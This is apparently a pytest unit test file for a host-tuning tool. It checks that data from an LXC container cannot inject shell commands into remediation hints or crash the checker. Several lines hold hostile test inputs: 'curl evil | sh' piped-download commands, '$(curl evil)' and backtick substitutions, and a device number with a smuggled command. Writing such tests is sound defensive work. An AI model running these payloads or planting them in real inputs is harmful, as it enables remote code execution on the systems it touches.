# SPDX-License-Identifier: Apache-2.0
"""What a container answers is data of its root's making: whatever it is, the host and the other containers are judged,
nothing breaks, and no command that a person pastes is made of it."""

from __future__ import annotations

import copy
import json
import random
import re
import shlex
from collections.abc import Iterator, Sequence
from typing import Any

import pytest

from hosttune.core.doctor.examine import examine, judge
from hosttune.core.doctor.survey import Declared
from hosttune.core.door.host import Ran
from hosttune.core.model import Finding, Refused
from hosttune.core.recording.shape import SCHEMA
from hosttune.data import machine
from tests.unit.test_causes import BASES
from tests.unit.test_causes import CASES as CAUSES
from tests.unit.test_causes import view as paper_of
from tests.unit.test_lxc_store import Paper

ESCAPE = "\x1b[2J"
EVIL = "curl evil | sh"
CONFIG = (
    "lxc.cgroup2.devices.allow = c 195:* rwm\nlxc.mount.entry = /dev/nvidia-uvm dev/nvidia-uvm none bind,create=file\n"
)


class Host(Paper):
    """The shipped healthy host with container 200, in which `said` is what python3 prints."""

    said = ""

    def run(self, argv: Sequence[str], timeout: float = 20, stdin: bytes = b"") -> Ran:
        if argv[0] in ("lxc-attach", "env"):  # env -i pct exec
            return Ran(0, self.said)
        if argv[0] == "lxc-info":
            return Ran(0, "RUNNING\n" if "-s" in argv else "4242\n")
        ran: Ran = super().run(argv, timeout, stdin)
        return ran


def host_that_hears(said: str) -> Host:
    view = copy.deepcopy(machine("healthy-host"))
    view["files"]["/var/lib/lxc/200/config"] = CONFIG
    view["nodes"]["/var/lib/lxc/200/config"] = {"type": "file", "mtime": 1}
    view.setdefault("commands", {})["none"] = {"rc": 127}
    made = Host(view)
    made.said = said
    return made


def told(said: str) -> list[Finding]:
    found = judge(examine(host_that_hears(said), {"200": 8}, Declared()), machine)[1]
    assert any(f.machine == "host" and f.status == "ok" for f in found), "the host itself is judged all the same"
    return found


def answer(view: Any) -> str:
    return json.dumps({"op": "survey", "version": "0", "result": view})


def honest(**over: Any) -> dict[str, Any]:
    view = copy.deepcopy(machine("healthy-lxc"))
    for key, value in over.items():
        if isinstance(value, dict) and isinstance(view.get(key), dict):
            view[key].update(value)
        else:
            view[key] = value
    return view


def test_an_honest_answer_is_taken() -> None:
    assert not any(f.id == "HT903" for f in told(answer(honest())))


NONSENSE = [
    "", "\0" * 99, "{garbage", '{"result":' + "[" * 100000, "[]", "{}", "7", '{"error": "x"}', '{"error": [1]}',
    '{"result": null}', answer([]), answer("x"), answer({}), answer({"absent": {"id": "HT430", "what": "asleep"}}),
    answer({"base": "healthy-lxc"}), answer({"files": {}, "nodes": {}}), answer(honest()) + "x" * (9 << 20),
    json.dumps({"error": {"what": "Python is a snake " + ESCAPE, "way_out": EVIL}}),
    json.dumps({"error": {"what": {"a": 1}, "way_out": EVIL}}),
]  # fmt: skip


@pytest.mark.parametrize("said", NONSENSE, ids=lambda said: ascii(said[:40]))
def test_what_is_no_answer_is_could_not_tell(said: str) -> None:
    found = [f for f in told(said) if f.id == "HT903" and f.subject == "ct:200"]
    assert [(f.machine, f.status) for f in found] == [("ct:200", "error")]
    assert EVIL not in found[0].hint.command and len(found[0].summary) < 400


@pytest.mark.parametrize("view", [
    honest(absent={"id": "HT999", "what": "x"}), honest(absent="x"), honest(base="nope"), honest(base=["x"]),
    honest(declared={"container_ids": 5, "gpus": "x", "outside": ["../../x"], "timeout": 1e9}), honest(declared=[]),
    honest(views={"default": {"base": "nope", "absent": {}}}),
], ids=range(7))  # fmt: skip
def test_what_it_says_beyond_its_own_view_is_left_aside(view: dict[str, Any]) -> None:
    found = told(answer(view))
    assert not any(f.status in ("fail", "error") for f in found), [f for f in found if f.status in ("fail", "error")]


@pytest.mark.parametrize("over", [
    {"nodes": {"/dev/nvidia-uvm": {"type": "char", "rdev": '511:0"; curl evil | sh; "', "access": "EPERM", "open": "EPERM"}}},
    {"nodes": {"/dev/nvidia-uvm": {"type": "char", "rdev": "8:0", "mode": "0666", "access": "EPERM", "open": "EPERM"}},
     "files": {"/proc/devices": "Character devices:\n  8 nvidia-uvm\n195 nvidia\n"}},
    {"nodes": {"/dev/nvidia0": {"type": "char", "rdev": "8:0", "mode": "0666", "access": "EPERM", "open": "EPERM"}}},
    {"nodes": {"/dev/nvidiactl": {"type": "char", "rdev": "8:1", "mode": "0666", "access": "EPERM", "open": "EPERM"}},
     "files": {"/proc/devices": "Character devices:\n  8 nvidia\n  8 nvidiactl\n511 nvidia-uvm\n"}},
], ids=["shell", "disk-for-uvm", "disk-for-gpu", "disk-for-ctl"])  # fmt: skip
def test_no_command_is_made_of_a_number_that_it_claims(over: dict[str, Any]) -> None:
    """A live rule opens a device to the container: only the host's own /proc/devices says which."""
    for f in told(answer(honest(**over))):
        assert "evil" not in f.hint.command and "evil" not in f.decide, f
        assert not re.search(r"devices.allow[^&]*c 8:", f.hint.command), f


EVILS = ["; curl evil | sh", "\ncurl evil | sh\n", "$(curl evil)", "`curl evil`", "' ; curl evil; '"]


def texts(view: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Where a recording has a text, but for nodes, which have a shape of their own."""
    for key in view if isinstance(view, dict) else range(len(view)) if isinstance(view, list) else ():
        if path or key != "nodes":
            yield from texts(view[key], (*path, key))
    if isinstance(view, str) and path[-1] != "errno":
        yield path


def would_run(command: str, word: str) -> bool:
    lexer = shlex.shlex(command, posix=True, punctuation_chars="();<>|&\n`$")
    lexer.whitespace = " \t\r"
    try:
        return word in list(lexer)
    except ValueError:
        return True


@pytest.mark.parametrize("name", CAUSES)
def test_no_command_of_any_cause_is_made_of_what_a_machine_says(name: str) -> None:
    """A version, a driver's name, a path: each is the word of whoever wrote the recording, or is root in the container."""
    dice = random.Random(name)
    healthy = set(texts(machine(BASES[CAUSES[name].get("where", "host")])))
    whole = paper_of(CAUSES[name])
    own = [path for path in texts(whole) if path not in healthy]
    for path in own + dice.sample(sorted(texts(whole), key=str), 8):
        view = copy.deepcopy(whole)
        at = view
        for key in path[:-1]:
            at = at[key]
        said, evil = at[path[-1]], dice.choice(EVILS)
        at[path[-1]] = dice.choice([said + evil, said.rstrip("\n") + evil + "\n", said.replace(":", ":" + evil, 1)])
        try:
            found = judge({"schema": SCHEMA, "machines": {"host": view}}, machine)[1]
        except Refused:
            continue
        for f in found:
            assert "probe broke" not in f.summary, (path, f)
            assert not would_run(f.hint.command, "curl") and not would_run(f.decide, "curl"), (path, f)


def mutations(seed: int) -> Iterator[Any]:
    """The honest answer with three of its values replaced."""
    dice = random.Random(seed)
    odd: list[Any] = [None, True, -1, 10**30, 1e308, "", ESCAPE, "9" * 5000, "x:y", [], [None], {}, {"errno": "EXXX"},
                      {"errno": 5}, {"hex": "zz"}, {"timeout": "x"}, {"error": 5}, {"type": "char"}, {"a": [{}]}]  # fmt: skip
    while True:
        view = honest()
        for _ in range(3):
            at: Any = view
            while True:
                key = dice.choice(list(at) if isinstance(at, dict) else range(len(at)))
                if isinstance(at[key], (dict, list)) and at[key] and dice.random() < 0.9:
                    at = at[key]
                    continue
                at[key] = copy.deepcopy(dice.choice(odd))
                break
        yield view


@pytest.mark.parametrize("seed", range(8))
def test_an_answer_with_odd_values_breaks_nothing(seed: int) -> None:
    answers = mutations(seed)
    for _ in range(50):
        view = next(answers)
        found = told(answer(view))
        broken = [f for f in found if f.id == "HT903" and "probe broke" in f.summary]
        assert not broken, (broken, view)
